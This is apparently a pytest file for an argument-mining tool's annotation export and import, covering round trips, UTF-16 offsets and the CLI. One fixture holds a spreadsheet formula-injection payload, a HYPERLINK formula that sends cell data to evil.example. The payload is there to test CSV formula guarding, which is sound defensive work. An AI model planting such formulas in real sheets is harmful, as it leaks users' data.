"""Export units for labelling tools and import the labels back: round trips and errors."""

from __future__ import annotations

import csv
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from argmine.backends.base import Prediction
from argmine.errors import AlignmentError, AnnotationError, ArgmineError
from argmine.export import export, label_studio_config, select, Item
from argmine.importers import import_annotations
from argmine.schema import load_schema
from argmine.types import Document, Unit
from argmine.utf16 import Utf16Offsets

SCHEMA = load_schema()
ROOT = Path(__file__).resolve().parent.parent
# Emoji and 𠮷 (outside the BMP, two UTF-16 code units each) and CRLF line breaks.
DOCS = [
    Document(id="d1", text="支付宝做社交是对的😀。\r\n财不外露𠮷!\r\n来往已死。"),
    Document(id="web/p 2", text="𠮷野家😀😀好。我只想付钱。\n现在的支付宝功能太多!"),
]
EDITED = [
    (("privacy",), "negative"),
    ((), "neutral"),
    (("pro_social", "privacy"), "positive"),
    (("bloat", "brand_fit"), "negative"),
]


def units_of(doc: Document) -> list[Unit]:
    """Sentences of ``doc`` cut by hand (independent of the segmenter)."""
    out, n = [], 0
    for m in re.finditer(r"[^\r\n。!]+[。!]?", doc.text):
        n += 1
        out.append(Unit.from_source(doc.text, doc=doc.id, n=n, start=m.start(), end=m.end(), kind="body"))
    return out


UNITS = [u for d in DOCS for u in units_of(d)]


def prediction(i: int) -> Prediction:
    p = 0.1 + 0.8 * ((i * 37) % 10) / 10
    return Prediction(themes=("privacy",) if p > 0.5 else (), scores={t: p if t == "privacy" else 0.2 for t in SCHEMA.theme_ids},
                      sentiment="neutral", sentiment_score=0.0)


PREDICTIONS = [prediction(i) for i in range(len(UNITS))]


def edited(unit_id: str) -> tuple[tuple[str, ...], str]:
    return EDITED[[u.id for u in UNITS].index(unit_id) % len(EDITED)]


def order(themes) -> tuple[str, ...]:
    return tuple(sorted(themes, key=SCHEMA.theme_ids.index))


def assert_round_trip(result) -> None:
    assert not result.errors, [str(p) for p in result.errors]
    assert [(r.id, r.doc, r.start, r.end, r.text) for r in result.records] == [
        (u.id, u.doc, u.start, u.end, u.text) for u in UNITS
    ]
    for r in result.records:
        themes, sentiment = edited(r.id)
        assert (r.themes, r.sentiment) == (order(themes), sentiment), r.id
        assert r.text == next(d.text for d in DOCS if d.id == r.doc)[r.start:r.end]


def test_units_of_test_data_hold_non_bmp_and_crlf():
    assert any("𠮷" in u.text for u in UNITS) and any("😀" in u.text for u in UNITS)
    assert "\r\n" in DOCS[0].text


# --- Label Studio ------------------------------------------------------------


def ls_choice_result(themes, sentiment):
    return [
        {"id": "a1", "from_name": "themes", "to_name": "text", "type": "choices", "value": {"choices": list(themes) or ["other"]}},
        {"id": "a2", "from_name": "sentiment", "to_name": "text", "type": "choices", "value": {"choices": [sentiment]}},
    ]


def as_ls_export(tasks, annotate):
    """What Label Studio's JSON export looks like after labelling ``tasks``."""
    out = []
    for n, task in enumerate(tasks, 1):
        out.append({"id": n, "data": task["data"], "predictions": [n], "annotations": [
            {"id": 100 + n, "completed_by": 1, "was_cancelled": False, "ground_truth": False, "result": annotate(task)},
            {"id": 200 + n, "completed_by": 2, "was_cancelled": True, "result": []},
        ]})
    return out


@pytest.mark.parametrize("with_predictions", [True, False])
def test_label_studio_unit_round_trip(tmp_path, with_predictions):
    export(UNITS, tmp_path / "ls", "label-studio", predictions=PREDICTIONS if with_predictions else None)
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    assert [t["data"]["unit_id"] for t in tasks] == [u.id for u in UNITS]
    if with_predictions:
        pred = tasks[0]["predictions"][0]
        assert pred["model_version"] == "argmine" and 0 <= pred["score"] <= 1
        assert {r["from_name"] for r in pred["result"]} == {"themes", "sentiment"}
    else:
        assert "predictions" not in tasks[0]
    exported = as_ls_export(tasks, lambda t: ls_choice_result(*edited(t["data"]["unit_id"])))
    (tmp_path / "export.json").write_text(json.dumps(exported, ensure_ascii=False), "utf-8")
    result = import_annotations([tmp_path / "export.json"], "label-studio", units=UNITS, strict=True)
    assert_round_trip(result)
    assert {r.annotator for r in result.records} == {"label-studio-user-1"}  # cancelled one skipped


def test_label_studio_document_round_trip_counts_code_points(tmp_path):
    export(UNITS, tmp_path / "ls", "label-studio", predictions=PREDICTIONS, documents=DOCS, level="document")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    assert [t["data"]["text"] for t in tasks] == [d.text for d in DOCS]
    # The second unit of d1 starts after "支付宝做社交是对的😀。\r\n": 13 code points (14 UTF-16 units, which doccano counts);
    # Label Studio's editor highlights text[start:end] in code points.
    region = [r for r in tasks[0]["predictions"][0]["result"] if r["from_name"] == "unit"][1]
    assert (region["value"]["start"], region["value"]["end"]) == (13, 19)
    assert DOCS[0].text[13:19] == region["value"]["text"] == "财不外露𠮷!"

    def annotate(task):
        result = []
        units = {(u["start"], u["end"]): u["id"] for u in task["data"]["units"]}
        for (s, e), uid in units.items():
            themes, sentiment = edited(uid)
            span = {"start": s, "end": e, "text": task["data"]["text"][s:e]}
            result.append({"id": uid, "from_name": "unit", "to_name": "text", "type": "labels", "value": {**span, "labels": list(themes) or ["other"]}})
            result.append({"id": uid, "from_name": "sentiment", "to_name": "text", "type": "choices", "value": {**span, "choices": [sentiment]}})
        return result

    (tmp_path / "export.json").write_text(json.dumps(as_ls_export(tasks, annotate), ensure_ascii=False), "utf-8")
    result = import_annotations([tmp_path / "export.json"], "label-studio", strict=True)
    assert_round_trip(result)
    assert result.warnings == []  # no region read as an older export's UTF-16


def test_label_studio_config_is_valid_xml_from_schema():
    for level in ("unit", "document"):
        root = ET.fromstring(label_studio_config(SCHEMA, level))
        values = {c.get("value") for c in root.iter() if c.tag in ("Choice", "Label")}
        assert set(SCHEMA.theme_ids) | {"other"} | set(SCHEMA.sentiments) <= values
    root = ET.fromstring(label_studio_config(SCHEMA, "unit"))
    themes = root.find("Choices[@name='themes']")
    assert themes.get("choice") == "multiple" and themes.get("toName") == "text"
    assert root.find("Choices[@name='sentiment']").get("choice") == "single"
    assert ET.fromstring(label_studio_config(SCHEMA, "document")).find("Labels").get("name") == "unit"


# --- doccano -------------------------------------------------------------------


def test_doccano_classification_round_trip(tmp_path):
    export(UNITS, tmp_path / "dc", "doccano", predictions=PREDICTIONS)
    lines = [json.loads(x) for x in (tmp_path / "dc" / "tasks.jsonl").read_text("utf-8").splitlines()]
    assert lines[0]["label"][-1] == "neutral"
    out = []
    for n, obj in enumerate(lines, 1):  # doccano's export: its own id, our fields kept as metadata
        themes, sentiment = edited(obj["unit_id"])
        out.append({**obj, "id": n, "label": list(themes) + [sentiment]})
    (tmp_path / "all.jsonl").write_text("".join(json.dumps(o, ensure_ascii=False) + "\n" for o in out), "utf-8")
    assert_round_trip(import_annotations([tmp_path / "all.jsonl"], "doccano", units=UNITS, strict=True))


def test_doccano_span_round_trip_with_renamed_fields(tmp_path):
    export(UNITS, tmp_path / "dc", "doccano", predictions=PREDICTIONS, documents=DOCS, level="document")
    lines = [json.loads(x) for x in (tmp_path / "dc" / "tasks.jsonl").read_text("utf-8").splitlines()]
    out = []
    for obj in lines:
        m = Utf16Offsets(obj["text"])
        ents = []
        for u in obj["units"]:
            themes, sentiment = edited(u["id"])
            for lab in (list(themes) or ["other"]) + [sentiment]:
                ents.append({"id": len(ents), "label": lab, "start_offset": m.to_utf16(u["start"]), "end_offset": m.to_utf16(u["end"])})
        out.append({"id": 1, "body": obj["text"], "entities": ents, "doc": obj["doc"], "units": obj["units"]})
    (tmp_path / "all.jsonl").write_text("".join(json.dumps(o, ensure_ascii=False) + "\n" for o in out), "utf-8")
    result = import_annotations([tmp_path / "all.jsonl"], "doccano", text_field="body", strict=True)
    assert_round_trip(result)


# --- brat --------------------------------------------------------------------------


def test_brat_round_trip(tmp_path):
    export(UNITS, tmp_path / "brat", "brat", predictions=PREDICTIONS, documents=DOCS)
    conf = (tmp_path / "brat" / "annotation.conf").read_text("utf-8")
    assert "[entities]\npro_social\nprivacy\nbrand_fit\nbloat\nother\n" in conf
    assert "Sentiment\tArg:<ENTITY>, Value:positive|neutral|negative" in conf
    stem = "web_p_2"
    assert (tmp_path / "brat" / f"{stem}.txt").read_bytes() == DOCS[1].text.encode("utf-8")
    assert (tmp_path / "brat" / "d1.txt").read_bytes() == DOCS[0].text.encode("utf-8")  # CRLF kept
    ann = (tmp_path / "brat" / "d1.ann").read_text("utf-8")
    assert re.search(r"^T1\t(privacy|other) 0 11\t支付宝做社交是对的😀。$", ann, re.M)
    assert re.search(r"^#1\tAnnotatorNotes T1\tscore=\d\.\d\d unit=d1#1", ann, re.M)
    manifest = json.loads((tmp_path / "brat" / "argmine.json").read_text("utf-8"))
    for stem, entry in manifest["documents"].items():
        lines, t, text = [], 0, {d.id: d.text for d in DOCS}[entry["doc"]]
        for u in entry["units"]:
            themes, sentiment = edited(u["id"])
            shown = text[u["start"]:u["end"]].replace("\r", " ").replace("\n", " ")  # brat keeps the span's text
            for typ in list(themes) or ["other"]:
                t += 1
                lines.append(f"T{t}\t{typ} {u['start']} {u['end']}\t{shown}")
                lines.append(f"A{t}\tSentiment T{t} {sentiment}")
        (tmp_path / "brat" / f"{stem}.ann").write_text("\n".join(lines) + "\n", "utf-8")
    assert_round_trip(import_annotations([tmp_path / "brat"], "brat", units=UNITS, strict=True))


# --- CSV ---------------------------------------------------------------------------------


def fill_csv(path, fill):
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        fill(row)
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


def test_csv_round_trip(tmp_path):
    export(UNITS, tmp_path / "units.csv", "csv", predictions=PREDICTIONS)

    def fill(row):
        themes, sentiment = edited(row["id"])
        row["themes"], row["sentiment"], row["annotator"] = "; ".join(themes), sentiment, "amy"

    fill_csv(tmp_path / "units.csv", fill)
    result = import_annotations([tmp_path / "units.csv"], "csv", units=UNITS, strict=True)
    assert_round_trip(result)
    assert {r.annotator for r in result.records} == {"amy"}


# Comments a spreadsheet would run as formulas, in a document whose id is one too; a text that itself starts with '=
FORMULA_DOC = Document(id='=HYPERLINK("http://evil.example","c9")',
                       text='=HYPERLINK("http://evil.example/?d="&A2,"点击")\n-1 不同意\n+1\n@某人 说得对\n\t缩进\n\'=1+2 是文本\n好')
FORMULA_UNITS = [Unit.from_source(FORMULA_DOC.text, doc=FORMULA_DOC.id, n=n, start=m.start(), end=m.end(), kind="comment")
                 for n, m in enumerate(re.finditer(r"[^\n]+", FORMULA_DOC.text), 1)]


def test_export_help_names_every_formula_character_the_sheet_guards():
    from argmine.export import _FORMULA

    shown = re.sub(r"full-\s+width", "full-width", " ".join(_cli("export", "--help").output.split()))  # as wrapped on screen, joined again
    assert "(starting with = + - @ or their full-width ＝＋－＠) gets a ' in front" in shown
    assert all(_FORMULA.match(c) for c in "=+-@＝＋－＠")


def test_csv_sheet_guards_formula_cells_and_import_reads_them_back_exactly(tmp_path):
    export(FORMULA_UNITS, tmp_path / "u.csv", "csv", predictions=[prediction(0)] * len(FORMULA_UNITS))
    with open(tmp_path / "u.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["text"] for r in rows] == ["'" + u.text for u in FORMULA_UNITS[:6]] + ["好"]  # '=1+2 gets a second '
    assert {r["id"][:2] for r in rows} == {r["doc"][:2] for r in rows} == {"'="}
    assert rows[0]["pred_sentiment_score"] == "0.000"  # numbers are not guarded
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
    result = import_annotations([tmp_path / "u.csv"], "csv", units=FORMULA_UNITS, strict=True)
    assert not result.errors, [str(p) for p in result.errors]
    assert [(r.id, r.doc, r.start, r.end, r.text) for r in result.records] == [(u.id, u.doc, u.start, u.end, u.text) for u in FORMULA_UNITS]
    assert all(r.text == FORMULA_DOC.text[r.start:r.end] for r in result.records)


def test_a_filled_csv_sheet_trains_on_the_texts_without_the_formula_guard(tmp_path):
    from argmine.train import load_examples

    export(FORMULA_UNITS, tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
    assert [e.text for e in load_examples(tmp_path / "u.csv")] == [u.text for u in FORMULA_UNITS]
    (tmp_path / "t.csv").write_text("text,themes,sentiment\n'-1 不同意,privacy,negative\n''=1,other,neutral\n", encoding="utf-8")
    assert [e.text for e in load_examples(tmp_path / "t.csv")] == ["-1 不同意", "'=1"]  # a sheet that kept some columns: as import reads it


def test_csv_sheet_saved_with_the_guarding_apostrophe_dropped_still_matches_the_source(tmp_path):
    export(FORMULA_UNITS[:5], tmp_path / "u.csv", "csv")

    dropped = []

    def excel(row):  # a spreadsheet that saves the text it showed: the ' was its "this is text" mark
        dropped.extend(k for k, v in row.items() if v.startswith("'"))
        row.update({k: v[1:] for k, v in row.items() if v.startswith("'")}, themes="other", sentiment="neutral")

    fill_csv(tmp_path / "u.csv", excel)
    assert dropped == ["id", "doc", "text"] * 5
    result = import_annotations([tmp_path / "u.csv"], "csv", units=FORMULA_UNITS, strict=True)
    assert [(r.id, r.text) for r in result.records] == [(u.id, u.text) for u in FORMULA_UNITS[:5]]


def test_csv_unlabelled_rows_are_reported_not_dropped(tmp_path):
    export(UNITS, tmp_path / "units.csv", "csv")
    fill_csv(tmp_path / "units.csv", lambda row: row.update(sentiment="neutral") if row["id"] == "d1#1" else None)
    result = import_annotations([tmp_path / "units.csv"], "csv")
    assert [r.id for r in result.records] == ["d1#1"] and result.records[0].themes == ()
    assert len(result.unlabeled) == len(UNITS) - 1 and not result.errors


def test_import_reports_conflicts_between_labelers(tmp_path):
    export(UNITS[:1], tmp_path / "a.csv", "csv")
    fill_csv(tmp_path / "a.csv", lambda row: row.update(themes="privacy", sentiment="negative", annotator="a"))
    export(UNITS[:1], tmp_path / "b.csv", "csv")
    fill_csv(tmp_path / "b.csv", lambda row: row.update(themes="bloat", sentiment="negative", annotator="b"))
    result = import_annotations([tmp_path / "a.csv", tmp_path / "b.csv"], "csv")
    assert len(result.conflicts) == 1 and "labelers disagree" in str(result.conflicts[0])
    rec = result.records[0]
    assert rec.meta["conflict"] is True and set(rec.passes) == {"a", "b"}
    with pytest.raises(AnnotationError, match="labelers disagree"):
        import_annotations([tmp_path / "a.csv", tmp_path / "b.csv"], "csv", strict=True)


# --- the four error cases ----------------------------------------------------------------


def test_truncated_json_names_the_file_and_position(tmp_path):
    export(UNITS, tmp_path / "ls", "label-studio")
    text = (tmp_path / "ls" / "tasks.json").read_text("utf-8")
    (tmp_path / "cut.json").write_text(text[: len(text) // 2], "utf-8")
    with pytest.raises(AnnotationError, match=r"cut\.json:\d+:\d+: not valid JSON .*truncated"):
        import_annotations([tmp_path / "cut.json"], "label-studio", strict=True)
    result = import_annotations([tmp_path / "cut.json"], "label-studio")
    assert len(result.errors) == 1 and "truncated" in str(result.errors[0]) and not result.records


def test_label_not_in_schema_names_the_row(tmp_path):
    export(UNITS[:2], tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privcy", sentiment="negative"))
    with pytest.raises(AnnotationError) as e:
        import_annotations([tmp_path / "u.csv"], "csv", strict=True)
    assert str(e.value).startswith(f"{tmp_path / 'u.csv'}: row 1 (line 2) (unit d1#1): unknown theme 'privcy'")
    assert "expected one of: pro_social, privacy, brand_fit, bloat" in str(e.value)
    result = import_annotations([tmp_path / "u.csv"], "csv")
    assert len(result.errors) == 2 and not result.records


def test_offsets_out_of_range_names_the_region(tmp_path):
    export(UNITS, tmp_path / "ls", "label-studio", documents=DOCS, level="document")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    bad = [{"id": "x", "from_name": "unit", "to_name": "text", "type": "labels", "value": {"start": 20, "end": 99, "labels": ["privacy"]}},
           {"id": "x", "from_name": "sentiment", "to_name": "text", "type": "choices", "value": {"start": 20, "end": 99, "choices": ["negative"]}}]
    (tmp_path / "e.json").write_text(json.dumps(as_ls_export(tasks[:1], lambda t: bad)), "utf-8")
    with pytest.raises(AnnotationError) as e:
        import_annotations([tmp_path / "e.json"], "label-studio", strict=True)
    assert str(e.value) == (
        f"{tmp_path / 'e.json'} task 1 annotation 101 region x: offsets 20..99 are out of range for 'd1' "
        "(26 characters); the record does not belong to this document"
    )


def test_text_mismatch_names_the_record(tmp_path):
    export(UNITS, tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
    changed = [Unit(id=u.id, doc=u.doc, start=u.start, end=u.end, text="改" * len(u.text), kind=u.kind) if u.id == "d1#3" else u for u in UNITS]
    with pytest.raises(AnnotationError) as e:
        import_annotations([tmp_path / "u.csv"], "csv", units=changed, strict=True)
    assert str(e.value).startswith(f"{tmp_path / 'u.csv'}: row 3 (line 4) (unit d1#3): text mismatch for unit d1#3 (d1 21..26): the record has '来往已死。'")
    result = import_annotations([tmp_path / "u.csv"], "csv", units=changed)
    assert [p.where for p in result.errors] == [f"{tmp_path / 'u.csv'}: row 3 (line 4) (unit d1#3)"]
    assert len(result.records) == len(UNITS) - 1


def test_text_edited_in_the_sheet_quotes_the_source_text(tmp_path):
    export(UNITS, tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privacy", sentiment="negative",
                                                         text="来往已死了。" if row["id"] == "d1#3" else row["text"]))
    result = import_annotations([tmp_path / "u.csv"], "csv", units=UNITS)
    assert [str(p) for p in result.errors] == [  # the text no longer spans its offsets: certainly edited in the sheet
        f"{tmp_path / 'u.csv'}: row 3 (line 4) (unit d1#3): the text of unit d1#3 (d1 21..26) was edited in the file: it reads '来往已死了。' "
        "(6 characters), the source has '来往已死。'; restore the text (labels follow the id and offsets)"]
    assert len(result.records) == len(UNITS) - 1
    result = import_annotations([tmp_path / "u.csv"], "csv")  # no source: the record contradicts itself
    assert [str(p) for p in result.errors] == [
        f"{tmp_path / 'u.csv'}: row 3 (line 4) (unit d1#3): offsets 21..26 do not span the 6 characters of text '来往已死了。'; "
        "fix start/end or text; or pass --source to compare it with the original text"]


def test_import_names_source_granularity_when_spans_are_parts_of_units(tmp_path):
    first = UNITS[0]  # d1#1 "支付宝做社交是对的😀。" 0..11, cut in two as clause segmentation would
    clauses = [Unit.from_source(DOCS[0].text, doc="d1", n=n, start=s, end=e, kind="body") for n, (s, e) in enumerate([(0, 6), (6, 11)], 1)]
    export(clauses, tmp_path / "c.csv", "csv")
    fill_csv(tmp_path / "c.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
    result = import_annotations([tmp_path / "c.csv"], "csv", units=UNITS)
    assert [str(p) for p in result.errors] == [
        f"{tmp_path / 'c.csv'}: row {n} (line {n + 1}) (unit d1#{n}): cannot be mapped to a unit: its span d1 {s}..{e} is part of unit d1#1 0..11 "
        "of the source; the export was probably cut into clauses: pass --source-granularity clause (as given to 'export --granularity')"
        for n, s, e in [(1, 0, 6), (2, 6, 11)]]
    export([first], tmp_path / "s.csv", "csv")
    fill_csv(tmp_path / "s.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
    result = import_annotations([tmp_path / "s.csv"], "csv", units=clauses)
    assert [p.reason for p in result.errors] == [
        "cannot be mapped to a unit: its span d1 0..11 covers units d1#1..d1#2 of the source; the export was probably cut "
        "into sentences: pass --source-granularity sentence (as given to 'export --granularity')"]


def test_span_not_on_a_unit_boundary_is_reported(tmp_path):
    export(UNITS, tmp_path / "ls", "label-studio", documents=DOCS, level="document")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    bad = [{"id": "x", "from_name": "unit", "to_name": "text", "type": "labels", "value": {"start": 0, "end": 3, "text": "支付宝", "labels": ["privacy"]}}]
    (tmp_path / "e.json").write_text(json.dumps(as_ls_export(tasks[:1], lambda t: bad), ensure_ascii=False), "utf-8")
    result = import_annotations([tmp_path / "e.json"], "label-studio")
    assert any("is not a unit of d1 (nearest unit: d1#1 0..11)" in str(p) for p in result.errors)
    # every unit of the task is reported, none silently missing, none twice: d1#1 under the span (failed), the others unlabelled
    assert [p.where.rsplit(" ", 1)[-1] for p in result.unlabeled] == ["d1#2", "d1#3"]


def test_label_studio_region_short_of_a_unit_after_an_emoji_is_an_error(tmp_path):
    export(UNITS, tmp_path / "ls", "label-studio", documents=DOCS, level="document")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    # code points (Label Studio's): 0..10 ends after 😀, one short of d1#1; no surrogate pair to split
    bad = [{"id": "x", "from_name": "unit", "to_name": "text", "type": "labels", "value": {"start": 0, "end": 10, "labels": ["privacy"]}}]
    (tmp_path / "e.json").write_text(json.dumps(as_ls_export(tasks[:1], lambda t: bad)), "utf-8")
    with pytest.raises(AnnotationError, match=r"'支付宝做社交是对的😀' at 0\.\.10 is not a unit of d1 \(nearest unit: d1#1 0\.\.11\)"):
        import_annotations([tmp_path / "e.json"], "label-studio", strict=True)


# --- selection -----------------------------------------------------------------------------


def test_export_orders_least_confident_first_and_samples_with_seed(tmp_path):
    items = [Item(u, p) for u, p in zip(UNITS, PREDICTIONS)]
    ranked = select(items, order="uncertainty")
    confs = [it.prediction.confidence for it in ranked]
    assert confs == sorted(confs)
    assert select(items, order="uncertainty", sample=2) == ranked[:2]
    a = select(items, sample=3, seed=7)
    assert a == select(items, sample=3, seed=7) and len(a) == 3
    assert [it.unit.id for it in a] == [u.id for u in UNITS if u.id in {it.unit.id for it in a}]  # document order kept
    with pytest.raises(ArgmineError, match="needs predictions"):
        select([Item(u) for u in UNITS], order="uncertainty")


def test_export_only_unlabeled_skips_gold_units(tmp_path):
    out = export(UNITS, tmp_path / "u.csv", "csv", exclude={(u.doc, u.start, u.end) for u in UNITS[:2]})
    with open(out[0], encoding="utf-8-sig", newline="") as f:
        ids = [r["id"] for r in csv.DictReader(f)]
    assert ids == [u.id for u in UNITS[2:]]


def test_export_unknown_format_lists_the_formats(tmp_path):
    with pytest.raises(ArgmineError, match="unknown format 'prodigy'; expected one of: brat, csv, doccano, label-studio"):
        export(UNITS, tmp_path / "x", "prodigy")


def test_brat_needs_documents(tmp_path):
    with pytest.raises(ArgmineError, match="needs the whole documents"):
        export(UNITS, tmp_path / "x", "brat")


# --- UTF-16 offsets -------------------------------------------------------------------------

TEXTS = st.text(alphabet=st.sampled_from(list("ab支付。\r\n") + ["😀", "𠮷", "\U0010FFFF"]), max_size=40)


@given(TEXTS, st.data())
def test_utf16_offsets_match_the_utf16_encoding(text, data):
    m = Utf16Offsets(text)
    i = data.draw(st.integers(0, len(text)))
    assert m.to_utf16(i) == len(text[:i].encode("utf-16-le")) // 2
    assert m.from_utf16(m.to_utf16(i)) == i
    assert m.utf16_length == len(text.encode("utf-16-le")) // 2


@given(TEXTS)
def test_utf16_offset_inside_a_surrogate_pair_is_rejected(text):
    m = Utf16Offsets(text)
    starts = {m.to_utf16(i) for i in range(len(text) + 1)}
    for j in range(m.utf16_length + 1):
        if j not in starts:
            with pytest.raises(AlignmentError, match="surrogate pair"):
                m.from_utf16(j)
    with pytest.raises(AlignmentError, match="out of range"):
        m.from_utf16(m.utf16_length + 1)


# --- CLI -----------------------------------------------------------------------------------------


def test_cli_export_then_import_csv(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    (tmp_path / "page.txt").write_bytes("财不外露𠮷!\r\n来往已死😀。\r\n".encode("utf-8"))
    runner = CliRunner()
    res = runner.invoke(main, ["export", str(tmp_path / "page.txt"), "--format", "csv", "--no-predictions", "-o", str(tmp_path / "u.csv")])
    assert res.exit_code == 0, res.output
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privacy", sentiment="negative", annotator="amy"))
    res = runner.invoke(main, ["import", str(tmp_path / "u.csv"), "--format", "csv", "--source", str(tmp_path / "page.txt"),
                               "-o", str(tmp_path / "gold.jsonl")])
    assert res.exit_code == 0, res.output
    gold = [json.loads(x) for x in (tmp_path / "gold.jsonl").read_text("utf-8").splitlines()]
    assert [(g["text"], g["themes"], g["sentiment"]) for g in gold] == [("财不外露𠮷!", ["privacy"], "negative"), ("来往已死😀。", ["privacy"], "negative")]


def test_cli_import_bad_label_is_one_line_and_exit_1(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    export(UNITS[:1], tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privcy", sentiment="negative"))
    res = CliRunner().invoke(main, ["import", str(tmp_path / "u.csv"), "--format", "csv", "-o", str(tmp_path / "g.jsonl")])
    assert res.exit_code == 1
    assert f"argmine: error: {tmp_path / 'u.csv'}: row 1 (line 2) (unit d1#1): unknown theme 'privcy'" in res.output
    assert "Traceback" not in res.output
    res = CliRunner().invoke(main, ["import", str(tmp_path / "u.csv"), "--format", "csv", "-o", str(tmp_path / "g.jsonl"), "--strict"])
    assert res.exit_code == 1 and res.output.count("\n") == 2  # the bad record, then the stop line
    assert res.output.endswith("\nargmine: error: stopping because of --strict\n")


def test_cli_export_label_studio_document_level_and_brat(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    (tmp_path / "page.txt").write_text("财不外露。来往已死。\n", "utf-8")
    for fmt, level in (("label-studio", "document"), ("brat", "unit"), ("doccano", "unit")):
        res = CliRunner().invoke(main, ["export", str(tmp_path / "page.txt"), "--format", fmt, "--level", level, "--no-predictions", "-o", str(tmp_path / fmt)])
        assert res.exit_code == 0, res.output
    tasks = json.loads((tmp_path / "label-studio" / "tasks.json").read_text("utf-8"))
    assert tasks[0]["data"]["text"] == "财不外露。来往已死。\n"
    assert (tmp_path / "brat" / "annotation.conf").exists()


# --- QA fixes: schema of the model, --source tables, separators, sentiments, conflicts ---------------

# A two-theme schema of another debate (should fireworks be allowed at Spring Festival?).
FIRE_TOML = """
[schema]
id = "fireworks"
version = "1"
target = "春节放鞭炮"

[[themes]]
id = "tradition"
name_zh = "传统"
name_en = "tradition"
cues = ["传统", "年味"]

[[themes]]
id = "pollution"
name_zh = "污染"
name_en = "pollution"
cues = ["污染", "雾霾"]

[sentiment]
positive = ["支持"]
negative = ["反对"]
"""


@pytest.fixture()
def fire_model(tmp_path):
    """A lexicon model directory trained with FIRE_TOML (it stores that schema)."""
    from click.testing import CliRunner

    from argmine.cli import main

    (tmp_path / "fire.toml").write_text(FIRE_TOML, "utf-8")
    (tmp_path / "fire.jsonl").write_text(
        '{"text": "放鞭炮是传统。", "themes": ["tradition"], "sentiment": "positive"}\n'
        '{"text": "鞭炮污染空气。", "themes": ["pollution"], "sentiment": "negative"}\n', "utf-8")
    res = CliRunner().invoke(main, ["train", str(tmp_path / "fire.jsonl"), "--backend", "lexicon",
                                    "--schema", str(tmp_path / "fire.toml"), "-o", str(tmp_path / "fire_model")])
    assert res.exit_code == 0, res.output
    return tmp_path / "fire_model"


def test_cli_export_config_follows_the_model_schema(tmp_path, fire_model):
    from click.testing import CliRunner

    from argmine.cli import main

    (tmp_path / "page.txt").write_text("放鞭炮有年味。雾霾太重了。\n", "utf-8")
    for fmt in ("label-studio", "brat"):
        res = CliRunner().invoke(main, ["export", str(tmp_path / "page.txt"), "--format", fmt, "--model", str(fire_model), "-o", str(tmp_path / fmt)])
        assert res.exit_code == 0, res.output
    choices = [c.get("value") for c in ET.fromstring((tmp_path / "label-studio" / "config.xml").read_text("utf-8")).iter("Choice")]
    assert choices == ["tradition", "pollution", "other", "positive", "neutral", "negative"]
    assert "tradition\npollution\nother" in (tmp_path / "brat" / "annotation.conf").read_text("utf-8")
    # an explicit --schema wins, and one the model was not trained for is refused in one line
    alipay = str(ROOT / "argmine" / "schemas" / "alipay.toml")
    res = CliRunner().invoke(main, ["export", str(tmp_path / "page.txt"), "--format", "csv", "--model", str(fire_model),
                                    "--schema", alipay, "-o", str(tmp_path / "x.csv")])
    assert res.exit_code == 2
    assert res.output.count("\n") == 1 and "the model was trained for themes ['tradition', 'pollution']" in res.output
    assert "pass --model lexicon" in res.output and "or leave out --schema (schema= in Python) to use the schema the model was trained with" in res.output


def test_cli_import_reads_source_tables_with_source_fields(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    table = tmp_path / "comments.jsonl"
    table.write_text('{"cid": "c1", "body": "财不外露。"}\n{"cid": "c2", "body": "来往已死😀。"}\n', "utf-8")
    runner = CliRunner()
    res = runner.invoke(main, ["export", str(table), "--text-field", "body", "--id-field", "cid", "--format", "label-studio",
                               "--no-predictions", "-o", str(tmp_path / "ls")])
    assert res.exit_code == 0, res.output
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    (tmp_path / "done.json").write_text(json.dumps(as_ls_export(tasks, lambda t: ls_choice_result(["privacy"], "negative"))), "utf-8")
    res = runner.invoke(main, ["import", str(tmp_path / "done.json"), "--format", "label-studio", "--source", str(table), "-o", str(tmp_path / "g.jsonl")])
    assert res.exit_code == 1
    assert "has no 'text' field (fields: cid, body); pass --source-text-field NAME" in res.output
    assert res.output.strip().endswith("no --source document could be read; nothing imported, nothing written to " + str(tmp_path / "g.jsonl"))
    assert not (tmp_path / "g.jsonl").exists()
    res = runner.invoke(main, ["import", str(tmp_path / "done.json"), "--format", "label-studio", "--source", str(table),
                               "--source-text-field", "body", "--source-id-field", "cid", "-o", str(tmp_path / "g.jsonl")])
    assert res.exit_code == 0, res.output
    gold = [json.loads(x) for x in (tmp_path / "g.jsonl").read_text("utf-8").splitlines()]
    assert [(g["doc"], g["text"], g["themes"]) for g in gold] == [("c1", "财不外露。", ["privacy"]), ("c2", "来往已死😀。", ["privacy"])]


@pytest.mark.parametrize("sep", ["\uff1b", "\uff0c", "\u3001", " ; ", "|"])
